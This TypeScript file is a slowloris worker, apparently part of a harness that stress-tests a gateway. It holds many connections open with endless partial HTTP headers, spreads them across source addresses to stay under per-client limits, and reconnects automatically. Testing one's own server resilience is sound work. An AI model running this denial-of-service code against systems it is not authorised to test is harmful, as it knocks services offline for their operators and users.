// Slow clients (slowloris): each opens a connection to the gateway, sends a request line and then one header
// line every `intervalMs`, never finishing; when the gateway closes it (its header timeout), it connects again.
import { connect, type Socket } from 'node:net';
import { processStats, serveParent } from './lib/child.ts';

export interface SlowRun {
  host: string;
  port: number;
  count: number;
  /** Source addresses to spread the clients over (each address below the gateway's per-client limit). */
  localAddresses: string[];
  intervalMs: number;
}

export interface SlowStats {
  open: number;
  opened: number;
  closedByServer: number;
}

let run: SlowRun | undefined;
let stopping = false;
const sockets = new Set<Socket>();
const counts = { opened: 0, closedByServer: 0 };
let ticker: NodeJS.Timeout | undefined;

function open(i: number): void {
  if (!run || stopping) return;
  const r = run;
  const socket = connect({ host: r.host, port: r.port, localAddress: r.localAddresses[i % r.localAddresses.length] });
  socket.on('error', () => undefined);
  socket.once('connect', () => {
    counts.opened++;
    sockets.add(socket);
    socket.write(`GET /api/?type=version HTTP/1.1\r\nHost: ${r.host}\r\n`);
  });
  socket.once('close', () => {
    const was = sockets.delete(socket);
    if (stopping) return;
    if (was) counts.closedByServer++;
    // Reconnect after a short pause, as a patient attacker would.
    setTimeout(() => open(i), 50 + (i % 50));
  });
}

async function start(r: SlowRun): Promise<SlowStats> {
  run = r;
  stopping = false;
  for (let i = 0; i < r.count; i++) {
    open(i);
    if (i % 100 === 99) await new Promise((res) => setTimeout(res, 20));
  }
  ticker = setInterval(() => {
    for (const s of sockets) s.write('X-Slow: 1\r\n');
  }, r.intervalMs);
  const deadline = Date.now() + 30_000;
  while (sockets.size < r.count && Date.now() < deadline) await new Promise((res) => setTimeout(res, 50));
  return stats();
}

function stats(): SlowStats {
  return { open: sockets.size, ...counts };
}

async function stop(): Promise<SlowStats> {
  const s = stats();
  stopping = true;
  if (ticker) clearInterval(ticker);
  for (const socket of sockets) socket.destroy();
  sockets.clear();
  return s;
}

await serveParent(async () => ({
  info: { pid: process.pid },
  handlers: { hold: (r: SlowRun) => start(r), stats: () => ({ ...stats(), process: processStats() }), release: () => stop() },
  async onStop() {
    await stop();
  },
}));
